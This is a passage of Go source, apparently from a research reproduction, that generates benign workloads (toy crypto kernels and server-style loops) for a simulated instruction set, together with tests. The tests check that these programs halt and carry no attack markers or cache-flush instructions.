		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("vote").
		Mov(isa.Mem(isa.RegNone, int64(out)), isa.R(isa.R1)).
		Hlt()
	return b.MustBuild()
}

// genHashJoin: map-like lookup loop — build a small open-addressing
// table, then probe it with queries (the hash-map-heavy LeetCode shape).
func genHashJoin(name string, rng *rand.Rand) *isa.Program {
	const slots = 64 // power of two
	inserts := 24 + rng.Intn(24)
	queries := 24 + rng.Intn(24)
	b := isa.NewBuilder(name, benignCodeBase)
	keys := b.DataInit("keys", uint64(inserts*8), randWords(rng, inserts, 1<<20), false)
	qs := b.DataInit("qs", uint64(queries*8), randWords(rng, queries, 1<<20), false)
	table := b.Bytes("table", slots*8, false)
	found := b.Bytes("found", 8, false)

	// Insert phase: slot = key & 63, linear probe until empty slot.
	b.Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("ins").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(keys))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Mov(isa.R(isa.R3), isa.R(isa.R2)).
		And(isa.R(isa.R3), isa.Imm(slots-1))
	b.Label("probe_ins").
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R3, 8, int64(table))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)).
		Test(isa.R(isa.R5), isa.R(isa.R5)).
		Je("store").
		Inc(isa.R(isa.R3)).
		And(isa.R(isa.R3), isa.Imm(slots-1)).
		Jmp("probe_ins").
		Label("store").
		Mov(isa.Mem(isa.R4, 0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(inserts))).
		Jl("ins")

	// Query phase: bounded linear probe.
	b.Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("q").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(qs))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Mov(isa.R(isa.R3), isa.R(isa.R2)).
		And(isa.R(isa.R3), isa.Imm(slots-1)).
		Mov(isa.R(isa.R6), isa.Imm(8)) // probe budget
	b.Label("probe_q").
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R3, 8, int64(table))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)).
		Cmp(isa.R(isa.R5), isa.R(isa.R2)).
		Jne("miss").
		Mov(isa.R(isa.R7), isa.Mem(isa.RegNone, int64(found))).
		Inc(isa.R(isa.R7)).
		Mov(isa.Mem(isa.RegNone, int64(found)), isa.R(isa.R7)).
		Jmp("nextq").
		Label("miss").
		Inc(isa.R(isa.R3)).
		And(isa.R(isa.R3), isa.Imm(slots-1)).
		Dec(isa.R(isa.R6)).
		Jne("probe_q").
		Label("nextq").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(queries))).
		Jl("q").
		Hlt()
	return b.MustBuild()
}
