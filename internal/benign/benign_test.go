package benign

import (
	"math/rand"
	"testing"

	"repro/internal/exec"
	"repro/internal/isa"
)

func TestAllTemplatesBuildAndHalt(t *testing.T) {
	for _, kind := range Kinds() {
		for _, tmpl := range Templates(kind) {
			for _, seed := range []int64{1, 42, 12345} {
				spec := Spec{Kind: kind, Template: tmpl, Seed: seed}
				p, err := Generate(spec)
				if err != nil {
					t.Fatalf("%s: %v", spec.Name(), err)
				}
				cfg := exec.DefaultConfig()
				cfg.MaxRetired = 500_000
				m, err := exec.NewMachine(cfg, p, nil)
				if err != nil {
					t.Fatalf("%s: %v", spec.Name(), err)
				}
				tr := m.Run()
				if !tr.Halted {
					t.Errorf("%s: did not halt within %d instructions",
						spec.Name(), cfg.MaxRetired)
				}
				if tr.Retired < 20 {
					t.Errorf("%s: suspiciously short run (%d retired)",
						spec.Name(), tr.Retired)
				}
			}
		}
	}
}

func TestTemplateCounts(t *testing.T) {
	// Table III families: all four present with multiple templates each.
	want := map[Kind]int{
		KindLeetcode: 16,
		KindSpec:     12,
		KindCrypto:   6,
		KindServer:   8,
	}
	for kind, n := range want {
		if got := len(Templates(kind)); got != n {
			t.Errorf("%s: %d templates, want %d", kind, got, n)
		}
	}
	// Server templates map 1:1 to the eight Table III applications.
	if len(Templates(KindServer)) != 8 {
		t.Error("server family must model the 8 applications")
	}
}

func TestGenerateErrors(t *testing.T) {
	if _, err := Generate(Spec{Kind: "nope", Template: "x"}); err == nil {
		t.Error("unknown kind must fail")
	}
	if _, err := Generate(Spec{Kind: KindCrypto, Template: "nope"}); err == nil {
		t.Error("unknown template must fail")
	}
	if _, err := Random("nope", rand.New(rand.NewSource(1))); err == nil {
		t.Error("Random with unknown kind must fail")
	}
}

func TestDeterminism(t *testing.T) {
	spec := Spec{Kind: KindCrypto, Template: "aes-ttable", Seed: 7}
	a := MustGenerate(spec)
	b := MustGenerate(spec)
	if len(a.Insns) != len(b.Insns) {
		t.Fatal("nondeterministic instruction count")
	}
	for i := range a.Insns {
		if a.Insns[i] != b.Insns[i] {
			t.Fatalf("instruction %d differs", i)
		}
	}
}

func TestSeedsDiversify(t *testing.T) {
	a := MustGenerate(Spec{Kind: KindLeetcode, Template: "binary-search", Seed: 1})
	b := MustGenerate(Spec{Kind: KindLeetcode, Template: "binary-search", Seed: 2})
	// Different seeds must change something observable (data or size).
	same := len(a.Insns) == len(b.Insns)
	if same {
		for i := range a.Insns {
			if a.Insns[i] != b.Insns[i] {
				same = false
				break
			}
		}
	}
	if same {
		segA, _ := a.Segment("arr")
		segB, _ := b.Segment("arr")
		if string(segA.Init) == string(segB.Init) {
			t.Error("seeds 1 and 2 produced identical programs")
		}
	}
}

func TestRandomDrawsFromKind(t *testing.T) {
	rng := rand.New(rand.NewSource(99))
	for i := 0; i < 10; i++ {
		p, err := Random(KindServer, rng)
		if err != nil {
			t.Fatal(err)
		}
		if err := p.Validate(); err != nil {
			t.Fatal(err)
		}
	}
}

func TestNoAttackMarks(t *testing.T) {
	for _, kind := range Kinds() {
		for _, tmpl := range Templates(kind) {
			p := MustGenerate(Spec{Kind: kind, Template: tmpl, Seed: 3})
			if len(p.AttackAddrs()) != 0 {
				t.Errorf("%s/%s: benign program carries attack marks", kind, tmpl)
			}
		}
	}
}

func TestBenignHasNoClflush(t *testing.T) {
	// Benign programs may use RDTSCP (openntpd-ts deliberately does) but
	// none of them flushes cache lines.
	for _, kind := range Kinds() {
		for _, tmpl := range Templates(kind) {
			p := MustGenerate(Spec{Kind: kind, Template: tmpl, Seed: 5})
			for _, in := range p.Insns {
				if in.Op == isa.CLFLUSH {
					t.Errorf("%s/%s: clflush in benign program", kind, tmpl)
				}
			}
		}
	}
}

func TestNTPTemplateUsesRdtscp(t *testing.T) {
	p := MustGenerate(Spec{Kind: KindServer, Template: "openntpd-ts", Seed: 1})
	found := false
	for _, in := range p.Insns {
		if in.Op == isa.RDTSCP {
			found = true
		}
	}
	if !found {
		t.Error("openntpd-ts must use RDTSCP (the benign-timer hard case)")
	}
}

func TestSpecName(t *testing.T) {
	s := Spec{Kind: KindSpec, Template: "stream", Seed: 9}
	if s.Name() != "spec2006-stream-9" {
		t.Errorf("Name = %q", s.Name())
	}
}
