package benign

import (
	"math/rand"

	"repro/internal/isa"
)

// Crypto kernels: table-driven ciphers generate dense, key-dependent
// cache traffic — the benign programs that look most like attacks to a
// naive detector, which is exactly why the paper includes them.

// genAESTTable: AES-like T-table rounds — key-dependent loads from four
// 256-entry tables, xor-folded into the state.
func genAESTTable(name string, rng *rand.Rand) *isa.Program {
	rounds := 10
	blocks := 4 + rng.Intn(8)
	b := isa.NewBuilder(name, benignCodeBase)
	t0 := b.DataInit("t0", 256*8, randWords(rng, 256, 1<<62), false)
	t1 := b.DataInit("t1", 256*8, randWords(rng, 256, 1<<62), false)
	t2 := b.DataInit("t2", 256*8, randWords(rng, 256, 1<<62), false)
	t3 := b.DataInit("t3", 256*8, randWords(rng, 256, 1<<62), false)
	key := b.DataInit("key", 16*8, randWords(rng, 16, 1<<62), false)
	out := b.Bytes("ct", uint64(blocks*8), false)

	b.Mov(isa.R(isa.R9), isa.Imm(0)) // block counter
	b.Label("block").
		// state = block index mixed with key[0]
		Mov(isa.R(isa.R0), isa.R(isa.R9)).
		Mul(isa.R(isa.R0), isa.Imm(0x9e3779b9)).
		Xor(isa.R(isa.R0), isa.Mem(isa.RegNone, int64(key))).
		Mov(isa.R(isa.R8), isa.Imm(int64(rounds)))
	b.Label("round").
		// idx0..idx3 = successive bytes of the state
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		And(isa.R(isa.R1), isa.Imm(255)).
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(t0))).
		Mov(isa.R(isa.R3), isa.Mem(isa.R2, 0)).
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		Shr(isa.R(isa.R1), isa.Imm(8)).
		And(isa.R(isa.R1), isa.Imm(255)).
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(t1))).
		Xor(isa.R(isa.R3), isa.Mem(isa.R2, 0)).
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		Shr(isa.R(isa.R1), isa.Imm(16)).
		And(isa.R(isa.R1), isa.Imm(255)).
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(t2))).
		Xor(isa.R(isa.R3), isa.Mem(isa.R2, 0)).
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		Shr(isa.R(isa.R1), isa.Imm(24)).
		And(isa.R(isa.R1), isa.Imm(255)).
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(t3))).
		Xor(isa.R(isa.R3), isa.Mem(isa.R2, 0)).
		// fold round key
		Mov(isa.R(isa.R4), isa.R(isa.R8)).
		And(isa.R(isa.R4), isa.Imm(15)).
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R4, 8, int64(key))).
		Xor(isa.R(isa.R3), isa.Mem(isa.R5, 0)).
		Mov(isa.R(isa.R0), isa.R(isa.R3)).
		Dec(isa.R(isa.R8)).
		Jne("round").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(out))).
		Mov(isa.Mem(isa.R6, 0), isa.R(isa.R0)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(blocks))).
		Jl("block").
		Hlt()
	return b.MustBuild()
}

// genRSASquareMultiply: square-and-multiply modular exponentiation with
// a key-bit-dependent branch — the classic leaky RSA kernel.
func genRSASquareMultiply(name string, rng *rand.Rand) *isa.Program {
	bits := 24 + rng.Intn(24)
	exponent := rng.Int63() | 1
	modulus := int64(0xFFFF_FFFB)
	b := isa.NewBuilder(name, benignCodeBase)
	out := b.Bytes("out", 8, false)

	b.Mov(isa.R(isa.R0), isa.Imm(1)). // result
						Mov(isa.R(isa.R1), isa.Imm(int64(rng.Intn(1<<30)))). // base
						Mov(isa.R(isa.R2), isa.Imm(exponent)).
						Mov(isa.R(isa.R3), isa.Imm(int64(bits)))
	b.Label("bit").
		// result = result^2 mod m (approximate mod via mask)
		Mul(isa.R(isa.R0), isa.R(isa.R0)).
		And(isa.R(isa.R0), isa.Imm(modulus)).
		// if (e & 1) result *= base
		Mov(isa.R(isa.R4), isa.R(isa.R2)).
		And(isa.R(isa.R4), isa.Imm(1)).
		Test(isa.R(isa.R4), isa.R(isa.R4)).
		Je("skipmul").
		Mul(isa.R(isa.R0), isa.R(isa.R1)).
		And(isa.R(isa.R0), isa.Imm(modulus)).
		Label("skipmul").
		Shr(isa.R(isa.R2), isa.Imm(1)).
		Dec(isa.R(isa.R3)).
		Jne("bit").
		Mov(isa.Mem(isa.RegNone, int64(out)), isa.R(isa.R0)).
		Hlt()
	return b.MustBuild()
}

// genRC4: RC4-like keystream with the swap-heavy S-box walk.
func genRC4(name string, rng *rand.Rand) *isa.Program {
	outLen := 48 + rng.Intn(48)
	// Identity S-box; the KSA-equivalent scrambling happens in-loop.
	sbox := make([]byte, 256*8)
	for i := 0; i < 256; i++ {
		sbox[i*8] = byte(i)
	}
	b := isa.NewBuilder(name, benignCodeBase)
	s := b.DataInit("sbox", 256*8, sbox, false)
	ks := b.Bytes("keystream", uint64(outLen*8), false)
	j0 := int64(rng.Intn(256))

	b.Mov(isa.R(isa.R0), isa.Imm(0)). // i
						Mov(isa.R(isa.R1), isa.Imm(j0)). // j
						Mov(isa.R(isa.R9), isa.Imm(0))   // output count
	b.Label("prga").
		Inc(isa.R(isa.R0)).
		And(isa.R(isa.R0), isa.Imm(255)).
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(s))).
		Mov(isa.R(isa.R3), isa.Mem(isa.R2, 0)). // S[i]
		Add(isa.R(isa.R1), isa.R(isa.R3)).
		And(isa.R(isa.R1), isa.Imm(255)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(s))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)). // S[j]
		// swap
		Mov(isa.Mem(isa.R2, 0), isa.R(isa.R5)).
		Mov(isa.Mem(isa.R4, 0), isa.R(isa.R3)).
		// k = S[(S[i]+S[j]) & 255]
		Mov(isa.R(isa.R6), isa.R(isa.R3)).
		Add(isa.R(isa.R6), isa.R(isa.R5)).
		And(isa.R(isa.R6), isa.Imm(255)).
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R6, 8, int64(s))).
		Mov(isa.R(isa.R8), isa.Mem(isa.R7, 0)).
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(ks))).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R8)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(outLen))).
		Jl("prga").
		Hlt()
	return b.MustBuild()
}

// genSHAMix: SHA-like compression — almost pure register arithmetic with
// a small message schedule buffer; the low-memory end of the crypto set.
func genSHAMix(name string, rng *rand.Rand) *isa.Program {
	blocks := 4 + rng.Intn(6)
	b := isa.NewBuilder(name, benignCodeBase)
	msg := b.DataInit("msg", 16*8, randWords(rng, 16, 1<<62), false)
	digest := b.Bytes("digest", 4*8, false)

	b.Mov(isa.R(isa.R0), isa.Imm(0x6a09e667)).
		Mov(isa.R(isa.R1), isa.Imm(-0x44a11e68)). // 0xbb67ae58 as signed
		Mov(isa.R(isa.R2), isa.Imm(0x3c6ef372)).
		Mov(isa.R(isa.R3), isa.Imm(-0x5ab00ac6)).
		Mov(isa.R(isa.R9), isa.Imm(int64(blocks)))
	b.Label("block").
		Mov(isa.R(isa.R8), isa.Imm(0))
	b.Label("mix").
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R8, 8, int64(msg))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)).
		Add(isa.R(isa.R0), isa.R(isa.R5)).
		Mov(isa.R(isa.R6), isa.R(isa.R1)).
		Shl(isa.R(isa.R6), isa.Imm(5)).
		Xor(isa.R(isa.R0), isa.R(isa.R6)).
		Mov(isa.R(isa.R6), isa.R(isa.R2)).
		Shr(isa.R(isa.R6), isa.Imm(11)).
		Add(isa.R(isa.R1), isa.R(isa.R6)).
		Xor(isa.R(isa.R2), isa.R(isa.R0)).
		Add(isa.R(isa.R3), isa.R(isa.R1)).
		Inc(isa.R(isa.R8)).
		Cmp(isa.R(isa.R8), isa.Imm(16)).
		Jl("mix").
		Dec(isa.R(isa.R9)).
		Jne("block").
		Mov(isa.Mem(isa.RegNone, int64(digest)), isa.R(isa.R0)).
		Mov(isa.Mem(isa.RegNone, int64(digest+8)), isa.R(isa.R1)).
		Mov(isa.Mem(isa.RegNone, int64(digest+16)), isa.R(isa.R2)).
		Mov(isa.Mem(isa.RegNone, int64(digest+24)), isa.R(isa.R3)).
		Hlt()
	return b.MustBuild()
}

// genDESPerm: DES-like permutation through small lookup tables.
func genDESPerm(name string, rng *rand.Rand) *isa.Program {
	rounds := 16
	blocks := 3 + rng.Intn(5)
	b := isa.NewBuilder(name, benignCodeBase)
	perm := b.DataInit("perm", 64*8, randWords(rng, 64, 64), false)
	sbx := b.DataInit("sbx", 64*8, randWords(rng, 64, 1<<16), false)
	out := b.Bytes("out", uint64(blocks*8), false)

	b.Mov(isa.R(isa.R9), isa.Imm(0))
	b.Label("block").
		Mov(isa.R(isa.R0), isa.R(isa.R9)).
		Mul(isa.R(isa.R0), isa.Imm(0x1234567)).
		Mov(isa.R(isa.R8), isa.Imm(int64(rounds)))
	b.Label("round").
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		And(isa.R(isa.R1), isa.Imm(63)).
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(perm))).
		Mov(isa.R(isa.R3), isa.Mem(isa.R2, 0)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R3, 8, int64(sbx))).
		Xor(isa.R(isa.R0), isa.Mem(isa.R4, 0)).
		Shr(isa.R(isa.R0), isa.Imm(1)).
		Dec(isa.R(isa.R8)).
		Jne("round").
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(out))).
		Mov(isa.Mem(isa.R5, 0), isa.R(isa.R0)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(blocks))).
		Jl("block").
		Hlt()
	return b.MustBuild()
}

// genChaChaARX: ChaCha-like add-rotate-xor rounds, purely in registers.
func genChaChaARX(name string, rng *rand.Rand) *isa.Program {
	rounds := 20
	blocks := 4 + rng.Intn(6)
	b := isa.NewBuilder(name, benignCodeBase)
	state := b.DataInit("state", 4*8, randWords(rng, 4, 1<<62), false)
	out := b.Bytes("out", uint64(blocks*8), false)

	b.Mov(isa.R(isa.R9), isa.Imm(0))
	b.Label("block").
		Mov(isa.R(isa.R0), isa.Mem(isa.RegNone, int64(state))).
		Mov(isa.R(isa.R1), isa.Mem(isa.RegNone, int64(state+8))).
		Mov(isa.R(isa.R2), isa.Mem(isa.RegNone, int64(state+16))).
		Mov(isa.R(isa.R3), isa.Mem(isa.RegNone, int64(state+24))).
		Add(isa.R(isa.R0), isa.R(isa.R9)).
		Mov(isa.R(isa.R8), isa.Imm(int64(rounds)))
	b.Label("qr").
		Add(isa.R(isa.R0), isa.R(isa.R1)).
		Xor(isa.R(isa.R3), isa.R(isa.R0)).
		Mov(isa.R(isa.R4), isa.R(isa.R3)).
		Shl(isa.R(isa.R4), isa.Imm(16)).
		Shr(isa.R(isa.R3), isa.Imm(48)).
		Or(isa.R(isa.R3), isa.R(isa.R4)).
		Add(isa.R(isa.R2), isa.R(isa.R3)).
		Xor(isa.R(isa.R1), isa.R(isa.R2)).
		Mov(isa.R(isa.R4), isa.R(isa.R1)).
		Shl(isa.R(isa.R4), isa.Imm(12)).
		Shr(isa.R(isa.R1), isa.Imm(52)).
		Or(isa.R(isa.R1), isa.R(isa.R4)).
		Dec(isa.R(isa.R8)).
		Jne("qr").
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(out))).
		Xor(isa.R(isa.R0), isa.R(isa.R2)).
		Mov(isa.Mem(isa.R5, 0), isa.R(isa.R0)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(blocks))).
		Jl("block").
		Hlt()
	return b.MustBuild()
}
