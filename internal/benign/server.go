package benign

import (
	"math/rand"

	"repro/internal/isa"
)

// Server-application loops: each template models the hot loop of one of
// the eight real-world applications of Table III — request parsing,
// lookup structures, buffer transforms and bookkeeping, with sizes drawn
// from the seed.

// genBTreeSearch: SQLite-like B-tree page walk — binary search within a
// page, then a pointer hop to the child page.
func genBTreeSearch(name string, rng *rand.Rand) *isa.Program {
	pages := 8
	keysPerPage := 16
	queries := 10 + rng.Intn(10)
	b := isa.NewBuilder(name, benignCodeBase)
	// Pages: sorted keys, contiguous.
	tree := b.DataInit("tree", uint64(pages*keysPerPage*8),
		sortedWords(rng, pages*keysPerPage), false)
	qs := b.DataInit("queries", uint64(queries*8), randWords(rng, queries, 2000), false)
	hitsOut := b.Bytes("hitsout", 8, false)

	b.Mov(isa.R(isa.R9), isa.Imm(0))
	b.Label("query").
		Lea(isa.R8, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(qs))).
		Mov(isa.R(isa.R7), isa.Mem(isa.R8, 0)).
		Mov(isa.R(isa.R6), isa.Imm(0)) // page index
	b.Label("page").
		// Binary search within the page.
		Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R1), isa.Imm(int64(keysPerPage)))
	b.Label("bs").
		Cmp(isa.R(isa.R0), isa.R(isa.R1)).
		Jge("pagedone").
		Mov(isa.R(isa.R2), isa.R(isa.R0)).
		Add(isa.R(isa.R2), isa.R(isa.R1)).
		Shr(isa.R(isa.R2), isa.Imm(1)).
		Mov(isa.R(isa.R3), isa.R(isa.R6)).
		Mul(isa.R(isa.R3), isa.Imm(int64(keysPerPage))).
		Add(isa.R(isa.R3), isa.R(isa.R2)).
		Lea(isa.R4, isa.MemIdx(isa.RegNone, isa.R3, 8, int64(tree))).
		Mov(isa.R(isa.R5), isa.Mem(isa.R4, 0)).
		Cmp(isa.R(isa.R5), isa.R(isa.R7)).
		Jge("goleft").
		Mov(isa.R(isa.R0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Jmp("bs").
		Label("goleft").
		Mov(isa.R(isa.R1), isa.R(isa.R2)).
		Jmp("bs")
	b.Label("pagedone").
		// Descend: child page = (page*2+1+lowbit(result)) mod pages.
		Mov(isa.R(isa.R2), isa.R(isa.R6)).
		Shl(isa.R(isa.R2), isa.Imm(1)).
		Inc(isa.R(isa.R2)).
		And(isa.R(isa.R2), isa.Imm(int64(pages-1))).
		Mov(isa.R(isa.R6), isa.R(isa.R2)).
		// Two levels of descent per query.
		Mov(isa.R(isa.R3), isa.Mem(isa.RegNone, int64(hitsOut))).
		Inc(isa.R(isa.R3)).
		Mov(isa.Mem(isa.RegNone, int64(hitsOut)), isa.R(isa.R3)).
		Cmp(isa.R(isa.R3), isa.Imm(int64(queries*2))).
		Jge("nextq").
		Test(isa.R(isa.R6), isa.R(isa.R6)).
		Jne("page").
		Label("nextq").
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(queries))).
		Jl("query").
		Hlt()
	return b.MustBuild()
}

// genKexMix: OpenSSH-like key exchange — modular exponentiation mixed
// with buffer hashing.
func genKexMix(name string, rng *rand.Rand) *isa.Program {
	b := isa.NewBuilder(name, benignCodeBase)
	buf := b.DataInit("kexbuf", 32*8, randWords(rng, 32, 1<<62), false)
	out := b.Bytes("secret", 8, false)
	bits := 20 + rng.Intn(12)

	// Exponentiation phase.
	b.Mov(isa.R(isa.R0), isa.Imm(1)).
		Mov(isa.R(isa.R1), isa.Imm(int64(rng.Intn(1<<20)+3))).
		Mov(isa.R(isa.R2), isa.Imm(rng.Int63()|1)).
		Mov(isa.R(isa.R3), isa.Imm(int64(bits)))
	b.Label("modexp").
		Mul(isa.R(isa.R0), isa.R(isa.R0)).
		And(isa.R(isa.R0), isa.Imm(0x7FFF_FFFF)).
		Mov(isa.R(isa.R4), isa.R(isa.R2)).
		And(isa.R(isa.R4), isa.Imm(1)).
		Test(isa.R(isa.R4), isa.R(isa.R4)).
		Je("noodd").
		Mul(isa.R(isa.R0), isa.R(isa.R1)).
		And(isa.R(isa.R0), isa.Imm(0x7FFF_FFFF)).
		Label("noodd").
		Shr(isa.R(isa.R2), isa.Imm(1)).
		Dec(isa.R(isa.R3)).
		Jne("modexp")
	// Hash phase over the exchange buffer.
	b.Mov(isa.R(isa.R5), isa.Imm(0))
	b.Label("hash").
		Lea(isa.R6, isa.MemIdx(isa.RegNone, isa.R5, 8, int64(buf))).
		Xor(isa.R(isa.R0), isa.Mem(isa.R6, 0)).
		Mul(isa.R(isa.R0), isa.Imm(0x100000001b3)).
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(32)).
		Jl("hash").
		Mov(isa.Mem(isa.RegNone, int64(out)), isa.R(isa.R0)).
		Hlt()
	return b.MustBuild()
}

// genHMACLoop: OpenSSL-like HMAC over a sequence of records.
func genHMACLoop(name string, rng *rand.Rand) *isa.Program {
	records := 6 + rng.Intn(8)
	recLen := 16
	b := isa.NewBuilder(name, benignCodeBase)
	data := b.DataInit("records", uint64(records*recLen*8),
		randWords(rng, records*recLen, 1<<62), false)
	macs := b.Bytes("macs", uint64(records*8), false)

	b.Mov(isa.R(isa.R9), isa.Imm(0))
	b.Label("record").
		Mov(isa.R(isa.R0), isa.Imm(0x5c5c5c5c)). // opad seed
		Mov(isa.R(isa.R1), isa.Imm(0))
	b.Label("inner").
		Mov(isa.R(isa.R2), isa.R(isa.R9)).
		Mul(isa.R(isa.R2), isa.Imm(int64(recLen))).
		Add(isa.R(isa.R2), isa.R(isa.R1)).
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(data))).
		Xor(isa.R(isa.R0), isa.Mem(isa.R3, 0)).
		Mov(isa.R(isa.R4), isa.R(isa.R0)).
		Shl(isa.R(isa.R4), isa.Imm(7)).
		Add(isa.R(isa.R0), isa.R(isa.R4)).
		Inc(isa.R(isa.R1)).
		Cmp(isa.R(isa.R1), isa.Imm(int64(recLen))).
		Jl("inner").
		// Outer pass.
		Xor(isa.R(isa.R0), isa.Imm(0x36363636)).
		Mul(isa.R(isa.R0), isa.Imm(0x9e3779b97f4a7c1)).
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R9, 8, int64(macs))).
		Mov(isa.Mem(isa.R5, 0), isa.R(isa.R0)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(records))).
		Jl("record").
		Hlt()
	return b.MustBuild()
}

// genCommandParse: vsftpd-like command loop — scan a byte buffer for
// delimiters and dispatch on the first word.
func genCommandParse(name string, rng *rand.Rand) *isa.Program {
	cmds := 8 + rng.Intn(8)
	b := isa.NewBuilder(name, benignCodeBase)
	// Command codes 0..5 with lengths.
	input := b.DataInit("input", uint64(cmds*16), randWords(rng, cmds*2, 6), false)
	counters := b.Bytes("counters", 6*8, false)

	b.Mov(isa.R(isa.R9), isa.Imm(0))
	b.Label("cmd").
		Mov(isa.R(isa.R8), isa.R(isa.R9)).
		Shl(isa.R(isa.R8), isa.Imm(4)).
		Add(isa.R(isa.R8), isa.Imm(int64(input))).
		Mov(isa.R(isa.R0), isa.Mem(isa.R8, 0)). // opcode
		Mov(isa.R(isa.R1), isa.Mem(isa.R8, 8))  // arg
	// Dispatch chain (if-else ladder like real parsers).
	b.Cmp(isa.R(isa.R0), isa.Imm(0)).
		Jne("c1").
		Mov(isa.R(isa.R2), isa.Imm(0)).
		Jmp("bump").
		Label("c1").
		Cmp(isa.R(isa.R0), isa.Imm(1)).
		Jne("c2").
		Mov(isa.R(isa.R2), isa.Imm(1)).
		Jmp("bump").
		Label("c2").
		Cmp(isa.R(isa.R0), isa.Imm(2)).
		Jne("c3").
		Mov(isa.R(isa.R2), isa.Imm(2)).
		Jmp("bump").
		Label("c3").
		Cmp(isa.R(isa.R0), isa.Imm(3)).
		Jne("cother").
		Mov(isa.R(isa.R2), isa.Imm(3)).
		Jmp("bump").
		Label("cother").
		Mov(isa.R(isa.R2), isa.Imm(4)).
		Test(isa.R(isa.R1), isa.R(isa.R1)).
		Je("bump").
		Mov(isa.R(isa.R2), isa.Imm(5)).
		Label("bump").
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(counters))).
		Mov(isa.R(isa.R4), isa.Mem(isa.R3, 0)).
		Inc(isa.R(isa.R4)).
		Mov(isa.Mem(isa.R3, 0), isa.R(isa.R4)).
		Inc(isa.R(isa.R9)).
		Cmp(isa.R(isa.R9), isa.Imm(int64(cmds))).
		Jl("cmd").
		Hlt()
	return b.MustBuild()
}

// genHTTPServe: thttpd-like request loop — header scan, hash of the
// path, then a response buffer fill.
func genHTTPServe(name string, rng *rand.Rand) *isa.Program {
	requests := 4 + rng.Intn(6)
	hdrLen := 24
	respLen := 32
	b := isa.NewBuilder(name, benignCodeBase)
	hdrs := b.DataInit("hdrs", uint64(requests*hdrLen*8),
		randWords(rng, requests*hdrLen, 128), false)
	resp := b.Bytes("resp", uint64(respLen*8), false)

	b.Mov(isa.R(isa.R9), isa.Imm(0))
	b.Label("request").
		// Scan headers for a terminator (value 0) while hashing.
		Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R1), isa.Imm(1469598103))
	b.Label("scan").
		Mov(isa.R(isa.R2), isa.R(isa.R9)).
		Mul(isa.R(isa.R2), isa.Imm(int64(hdrLen))).
		Add(isa.R(isa.R2), isa.R(isa.R0)).
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(hdrs))).
		Mov(isa.R(isa.R4), isa.Mem(isa.R3, 0)).
		Xor(isa.R(isa.R1), isa.R(isa.R4)).
		Mul(isa.R(isa.R1), isa.Imm(16777619)).
		Test(isa.R(isa.R4), isa.R(isa.R4)).
		Je("respond").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(hdrLen))).
		Jl("scan")
	b.Label("respond").
		Mov(isa.R(isa.R5), isa.Imm(0))
	b.Label("fill").
		Mov(isa.R(isa.R6), isa.R(isa.R1)).
		Add(isa.R(isa.R6), isa.R(isa.R5)).
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R5, 8, int64(resp))).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R6)).
		Inc(isa.R(isa.R5)).
		Cmp(isa.R(isa.R5), isa.Imm(int64(respLen))).
